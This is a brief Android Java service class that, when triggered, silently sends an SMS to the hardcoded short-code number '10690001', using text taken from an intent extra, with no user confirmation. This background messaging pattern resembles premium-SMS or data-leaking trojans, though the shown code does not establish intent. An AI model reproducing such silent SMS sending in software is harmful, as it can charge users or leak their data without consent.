package cn.shanhai.bundle;

import android.app.IntentService;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsManager;

public class SendService extends IntentService {
  public SendService() {
    super("send");
  }

  @Override
  protected void onHandleIntent(Intent intent) {
    Bundle bundle = intent.getExtras();
    SmsManager.getDefault().sendTextMessage("10690001", null, bundle.getString("version"), null, null);
  }
}
